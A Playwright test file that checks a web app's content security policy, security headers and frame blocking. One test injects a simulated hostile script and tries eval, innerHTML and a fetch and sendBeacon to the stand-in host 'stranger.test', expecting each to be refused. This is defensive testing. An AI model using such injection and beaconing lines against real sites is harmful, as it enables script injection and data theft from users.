import { createHash } from 'node:crypto';
import { globSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page } from '@playwright/test';
import { directives } from '../../src/authoring/policy.ts';
import { test } from './page.ts';

/** The hashes of the scripts and styles that stand in a page, and those its policy names. */
const hashesOf = (html: string): ReadonlySet<string> =>
  new Set(
    [...html.matchAll(/<(style|script)(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/\1>/g)].map(([, , text = '']) =>
      createHash('sha256').update(text).digest('base64'),
    ),
  );
const hashesIn = (policy: string): ReadonlySet<string> =>
  new Set([...policy.matchAll(/'sha256-([^']+)'/g)].map(([, hash = '']) => hash));

const built = globSync('dist/**/*.html').filter((file) => !file.includes('/downloads/'));

test('every page that is built carries the whole policy, and no word of it lets text become code or style', () => {
  expect(built.length).toBeGreaterThan(300);
  const withWasm: string[] = [];
  for (const page of built) {
    const html = readFileSync(page, 'utf8');
    const [before = '', policy = ''] =
      /^(.*?)<meta http-equiv="content-security-policy" content="([^"]*)">/is.exec(html)?.slice(1) ?? [];
    const said = policy.split(';').map((directive) => directive.trim());
    expect(said, page).toEqual(expect.arrayContaining([...directives]));
    expect(policy, page).toMatch(/script-src 'self'/);
    expect(policy, page).toMatch(/style-src 'self' 'sha256-/);
    expect(hashesIn(policy), page).toEqual(hashesOf(html));
    expect(policy, page).not.toMatch(
      /unsafe-inline|unsafe-eval'(?<!wasm-unsafe-eval')|unsafe-hashes|https?:|\*/,
    );
    // What stands ahead of a policy is not held to it: nothing that acts may.
    expect(before, page).not.toMatch(/<(?:script|img|svg|object|iframe|form)\b|\son\w+=/i);
    if (policy.includes("'wasm-unsafe-eval'")) withWasm.push(page);
  }
  expect(withWasm.sort()).toEqual(['dist/search/index.html', 'dist/settings/index.html']);
});

test('nothing on any page is fetched from another place', () => {
  for (const file of built) {
    const html = readFileSync(file, 'utf8');
    const loaded = [...html.matchAll(/<(?:script|img|iframe|link|source|video|audio|embed|object)\b[^>]*/g)]
      .map(([tag]) => tag)
      .filter(
        (tag) => /(?:src|href|data)="(?:https?:)?\/\//.test(tag) && !/rel="(?:canonical|me)"/.test(tag),
      );
    expect(loaded, file).toEqual([]);
    const [styles, ...more] = html.match(/<style[^>]*>[\s\S]*?<\/style>/g) ?? [];
    expect(styles, file).toContain('url(');
    expect([styles, ...more].join(''), file).not.toMatch(/url\(["']?(?:https?:)?\/\//);
  }
});

test('the host is told to send what a page cannot say of itself', async ({ request }) => {
  const sentWith = async (address: string) => (await request.get(address)).headers();
  const page = await sentWith('/lessons/batch-size/');
  expect(page['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(page['content-security-policy']).toContain("require-trusted-types-for 'script'");
  expect(page['content-security-policy']).not.toContain(',');
  expect(page).toMatchObject({
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
    'cross-origin-opener-policy': 'same-origin',
    'cache-control': 'public, max-age=0, must-revalidate',
  });
  expect(page['permissions-policy']).toContain('camera=(), ');

  const [script = ''] = globSync('_astro/*.js', { cwd: 'dist' });
  const code = await sentWith(`/${script}`);
  expect(code['cache-control']).toBe('public, max-age=31536000, immutable');
  expect(code['content-security-policy']).toMatch(
    /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/,
  );
  expect((await sentWith('/sw.js'))['content-security-policy']).toMatch(/^default-src 'none';/);
});

/** What foreign code would try, from a script of the page's own: code that a test evaluates is held to no policy. */
const attempts = `
  const outcome = {};
  const attempt = async (name, act) => {
    try {
      await act();
      outcome[name] = 'done';
    } catch (error) {
      outcome[name] = error.name;
    }
  };
  addEventListener('load', async () => {
    const { body } = document;
    await attempt('eval', () => eval('1 + 1'));
    await attempt('new Function', () => new Function('return 1')());
    await attempt('a timer of text', () => setTimeout('document.title = "hit"', 0));
    await attempt('innerHTML', () => { body.innerHTML = '<p>hit</p>'; });
    await attempt('insertAdjacentHTML', () => body.insertAdjacentHTML('beforeend', '<p>hit</p>'));
    await attempt('document.write', () => document.write('<p>hit</p>'));
    await attempt('srcdoc', () => { document.createElement('iframe').srcdoc = '<p>hit</p>'; });
    await attempt('a script by text', () => { document.createElement('script').text = 'document.title = "hit"'; });
    await attempt('a script by address', () => { document.createElement('script').src = '/sw.js'; });
    await attempt('a worker by text', () => new Worker('/sw.js'));
    await attempt('another policy', () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
    await attempt('the same policy again', () => trustedTypes.createPolicy('ridgepoint', { createHTML: (text) => text }));
    await attempt('WebAssembly', () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
    await attempt('a foreign fetch', () => fetch('https://stranger.test/'));
    navigator.sendBeacon('https://stranger.test/', 'a message home');
    await attempt('a foreign picture', () => { const picture = new Image(); picture.src = 'https://stranger.test/x.png'; return picture.decode(); });
    document.querySelector('#handler').click();
    await attempt('an inline handler', () => { if (document.title !== 'hit') throw new TypeError(); });
    await attempt('an inline style', () => { if (getComputedStyle(document.querySelector('#handler')).opacity !== '0.5') throw new TypeError(); });
    await attempt('an inline script', () => { if (!globalThis.inlined) throw new TypeError(); });
    await attempt('a base of its own', () => { if (!document.baseURI.includes('stranger')) throw new TypeError(); });
    document.body.dataset.outcome = JSON.stringify(outcome);
  });
`;

/** Gets foreign things into a page as somebody would who found a hole in it. */
async function breakInto(page: Page, address: string): Promise<{ readonly [attempt: string]: string }> {
  await page.route('**/attempts.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: attempts }),
  );
  await page.route(`**${address}`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text())
      .replace('<title>', '<base href="https://stranger.test/"><title>')
      .replace(
        '</body>',
        `<script>globalThis.inlined = true;</script>
        <button id="handler" onclick="document.title = 'hit'" style="opacity: 0.5">x</button>
        <script src="/attempts.js"></script></body>`,
      );
    await route.fulfill({ response, body });
  });
  await page.goto(address);
  await expect(page.locator('body')).toHaveAttribute('data-outcome');
  return JSON.parse((await page.locator('body').getAttribute('data-outcome')) ?? '{}');
}

test('code that got into a page can do nothing with it', async ({ page, complaints, refusals }) => {
  const strangers: string[] = [];
  await page.route('https://stranger.test/**', (route) => {
    strangers.push(route.request().url());
    return route.abort();
  });
  const outcome = await breakInto(page, '/practice/');
  expect(outcome).toEqual({
    eval: 'EvalError',
    'new Function': 'EvalError',
    'a timer of text': 'TypeError',
    innerHTML: 'TypeError',
    insertAdjacentHTML: 'TypeError',
    'document.write': 'TypeError',
    srcdoc: 'TypeError',
    'a script by text': 'TypeError',
    'a script by address': 'TypeError',
    'a worker by text': 'TypeError',
    'another policy': 'TypeError',
    'the same policy again': 'TypeError',
    WebAssembly: 'CompileError',
    'a foreign fetch': 'TypeError',
    'a foreign picture': 'EncodingError',
    'an inline handler': 'TypeError',
    'an inline style': 'TypeError',
    'an inline script': 'TypeError',
    'a base of its own': 'TypeError',
  });
  expect(strangers).toEqual([]);
  const refused = refusals.splice(0).join('\n');
  for (const directive of [
    ...['require-trusted-types-for', 'trusted-types', 'script-src-elem', 'script-src-attr', 'style-src-attr'],
    ...['connect-src', 'img-src', 'base-uri', 'script-src'],
  ])
    expect(refused).toContain(`refused ${directive}: `);
  complaints.length = 0;
});

/** A page elsewhere that shows this site's in a frame. */
async function stranger(framed: string): Promise<Server> {
  const server = createServer((_, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${framed}"></iframe>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}

test('a stranger cannot show a page in a frame', async ({ page, complaints, refusals, baseURL }) => {
  const server = await stranger(`${baseURL}/settings/`);
  // A server that listens on a port has an address of this kind.
  const { port } = server.address() as AddressInfo;
  await page.goto(`http://127.0.0.1:${port}/`);
  await expect.poll(() => refusals.join()).toContain('frame-ancestors');
  await expect(page.frameLocator('iframe').getByRole('heading')).toHaveCount(0);
  server.close();
  refusals.length = 0;
  complaints.length = 0;
});

test('the optimiser and the reader of files run under the policy, in workers', async ({ page }) => {
  await page.goto('/settings/');
  const running: string[] = [];
  page.on('worker', (worker) => running.push(worker.url()));
  await page
    .getByLabel('from Anki')
    .setInputFiles({ name: 'history.json', mimeType: 'application/json', buffer: Buffer.from('{}') });
  await expect.poll(() => running.some((url) => url.includes('read-file.worker'))).toBe(true);
});
